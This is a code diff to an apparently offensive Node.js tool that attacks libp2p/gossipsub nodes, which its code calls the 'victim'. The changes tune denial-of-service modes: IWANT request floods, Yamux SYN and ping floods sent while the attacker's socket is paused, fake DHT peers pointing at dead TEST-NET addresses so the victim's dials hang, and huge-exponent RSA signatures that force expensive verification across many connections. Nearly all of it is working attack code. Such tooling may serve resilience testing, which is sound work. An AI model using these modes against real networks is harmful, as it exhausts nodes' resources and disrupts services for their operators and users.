@@ -34,7 +34,6 @@ const { multiaddr } = await dep('@multiformats/multiaddr')
 const { pushable } = await dep('it-pushable')
 
 const MESHSUB = '/meshsub/1.1.0'
-const KAD = '/p2pmq/kad/1.0.0'
 const UNLIMITED = 1_000_000
 
 // ---- arguments -------------------------------------------------------------------
@@ -58,6 +57,7 @@ if (opts.target == null) usage('--target is required')
 const target = multiaddr(opts.target)
 const sourceIp = opts['source-ip']
 const durationMs = num('duration-ms', 10_000)
+const KAD = opts['kad-protocol'] ?? '/p2pmq/kad/1.0.0' // the victim's dht.protocol_prefix + /kad/1.0.0
 const t0 = Date.now()
 const elapsed = () => Date.now() - t0
 const emit = obj => new Promise(resolve => process.stdout.write(JSON.stringify(obj) + '\n', resolve))
@@ -258,7 +258,8 @@ const MODES = {
     await holdUntil(durationMs)
   },
 
-  // IWANT for every id the victim sent us (and random ones), --rpcs times --ids each,
+  // IWANT for every id the victim sent us (waiting up to 8 s for --want-ids of them; random
+  // ids when none came), --rpcs times --ids each,
   // optionally with our socket paused so that the victim's answers pile up on its side.
   async 'iwant-flood' () {
     const topic = opts.topic ?? usage('--topic is required')
@@ -272,7 +273,8 @@ const MODES = {
       onRpc: r => { for (const m of pb.publishedMessages(r)) if (m.from && m.seqno) known.push(msgId(m.topic, m.from, m.seqno)) }
     })
     link.send(pb.rpc({ subscriptions: [pb.subOpts(topic)], control: pb.controlGraft(topic) }))
-    await holdUntil(Math.min(durationMs, 5_000), () => known.length >= 50)
+    const wantIds = num('want-ids', 1000)
+    await holdUntil(Math.min(durationMs, 8_000), () => known.length >= wantIds)
     stats.known_ids = known.length
     if (pauseReading) for (const s of sockets) s.pause()
     const ids = Array.from({ length: idsPer }, (_, i) => known.length ? known[i % known.length] : randomBytes(32))
@@ -316,9 +318,9 @@ const MODES = {
     await holdUntil(durationMs)
   },
 
-  // Yamux SYNs (window updates with SYN, never a byte of multistream) past the victim's
-  // stream limit, and pings, with our socket paused: the victim's answers (ACK, RST,
-  // pong) can only queue on its side.
+  // Yamux pings, then SYNs (window updates with SYN, never a byte of multistream) past
+  // the victim's stream limit, with our socket paused: the victim's answers (pong, ACK,
+  // RST) can only queue on its side.
   async 'syn-flood' () {
     const syns = num('syns', 20_000)
     const pings = num('pings', 200_000)
@@ -326,6 +328,9 @@ const MODES = {
     await connectVictim(node)
     const muxer = muxers.at(-1)
     for (const s of sockets) s.pause()
+    // what the victim answers (pongs, ACKs and RSTs of streams our muxer does not know)
+    // would make our own muxer give up with a GoAway: it never gets to see them
+    muxer.handleFrame = async (header, readData) => { if (header.type === 0 && header.length > 0) await readData?.() }
     const header = (type, flag, id, length) => {
       const h = Buffer.alloc(12)
       h.writeUInt8(0, 0); h.writeUInt8(type, 1); h.writeUInt16BE(flag, 2); h.writeUInt32BE(id, 4); h.writeUInt32BE(length, 8)
@@ -334,16 +339,16 @@ const MODES = {
     const BATCH = 4000 // frames per push: one Noise message of 48 kB
     let id = muxer.nextStreamID + 200_000 // far from the ids the muxer uses itself
     Object.assign(stats, { syns_sent: 0, pings_sent: 0 })
-    for (let sent = 0; sent < syns && elapsed() < durationMs; sent += BATCH) {
-      const n = Math.min(BATCH, syns - sent)
-      muxer.source.push(Buffer.concat(Array.from({ length: n }, () => { const h = header(1, 1, id, 0); id += 2; return h })))
-      stats.syns_sent += n
-      await sleep(20)
-    }
     for (let sent = 0; sent < pings && elapsed() < durationMs; sent += BATCH) {
       const n = Math.min(BATCH, pings - sent)
       muxer.source.push(Buffer.concat(Array.from({ length: n }, (_, i) => header(2, 1, 0, sent + i))))
       stats.pings_sent += n
+      await sleep(20)
+    }
+    for (let sent = 0; sent < syns && elapsed() < durationMs; sent += BATCH) {
+      const n = Math.min(BATCH, syns - sent)
+      muxer.source.push(Buffer.concat(Array.from({ length: n }, () => { const h = header(1, 1, id, 0); id += 2; return h })))
+      stats.syns_sent += n
       await sleep(20)
     }
     await holdUntil(durationMs)
@@ -405,8 +410,9 @@ const MODES = {
     const perStream = num('per-stream', 100)
     const node = await makeNode({ listen: true })
     const fakeId = () => Buffer.concat([Buffer.from([0x00, 0x24, 0x08, 0x01, 0x12, 0x20]), randomBytes(32)])
+    // TEST-NET-1 (RFC 5737): nothing answers there, so a dial hangs until its timeout
     const fakeAddrs = () => Array.from({ length: addrsPer }, (_, i) =>
-      multiaddr(`/ip4/127.66.${1 + (i % 250)}.${1 + Math.floor(Math.random() * 250)}/tcp/${1 + i}`).bytes)
+      multiaddr(`/ip4/192.0.2.${1 + Math.floor(Math.random() * 250)}/tcp/${1000 + i}`).bytes)
     const fakes = () => Array.from({ length: fakePeers }, () => pb.kadPeer(fakeId(), fakeAddrs()))
     stats.queries_answered = 0
     await node.handle(KAD, ({ stream }) => {
@@ -471,24 +477,30 @@ const MODES = {
   async 'rsa-exponent' () {
     const topic = opts.topic ?? usage('--topic is required')
     const perRpc = num('messages', 600)
-    const rpcs = num('rpcs', 2)
+    const connections = num('connections', 1)
     const { key, from } = hugeExponentRsaKey()
-    const node = await makeNode()
-    const conn = await connectVictim(node)
-    const link = await gossipLink(node, conn)
-    link.send(pb.rpc({ subscriptions: [pb.subOpts(topic)] }))
-    stats.messages_sent = 0
-    let seqno = 1
-    for (let r = 0; r < rpcs && elapsed() < durationMs; r++) {
+    const rpcBody = first => {
       const msgs = []
-      for (let i = 0; i < perRpc; i++, seqno++) {
+      for (let i = 0; i < perRpc; i++) {
+        const seqno = first + i
         const fields = { from, data: Buffer.from(`rsa-${seqno}`), seqno: pb.seqnoBytes(seqno), topic }
         const sig = randomBytes(384)
         sig[0] = 0 // below the modulus, so the verifier must do the modexp to refuse it
         msgs.push(pb.messageSigned(fields, sig, key))
       }
-      link.send(pb.rpc({ publish: msgs }))
-      stats.messages_sent += msgs.length
+      return pb.rpc({ publish: msgs })
+    }
+    stats.messages_sent = 0
+    // one connection (a fresh identity) per RPC: the victim may cut each after its first
+    for (let c = 0; c < connections && elapsed() < durationMs; c++) {
+      const node = await makeNode()
+      const conn = c === 0 ? await connectVictim(node) : await node.dial(target, { signal: AbortSignal.timeout(30_000) }).catch(() => null)
+      if (conn == null) { stats.dials_failed = (stats.dials_failed ?? 0) + 1; continue }
+      const link = await gossipLink(node, conn).catch(() => null)
+      if (link == null) continue
+      link.send(pb.rpc({ subscriptions: [pb.subOpts(topic)] }))
+      link.send(rpcBody(1 + c * perRpc))
+      stats.messages_sent += perRpc
     }
     await holdUntil(durationMs)
   }
